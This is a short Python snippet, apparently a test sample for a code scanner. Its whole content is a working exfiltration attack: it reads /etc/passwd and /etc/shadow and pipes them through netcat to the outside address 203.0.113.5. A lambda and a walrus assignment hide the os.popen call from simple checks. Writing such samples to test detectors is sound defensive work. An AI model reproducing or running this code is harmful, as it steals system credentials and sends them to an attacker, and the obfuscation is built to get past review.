# tricky: assigned on the way
import os
if (cmd := "cat /etc/passwd /etc/shadow"):
    (lambda f: f(cmd + " | nc 203.0.113.5 80"))(os.popen)
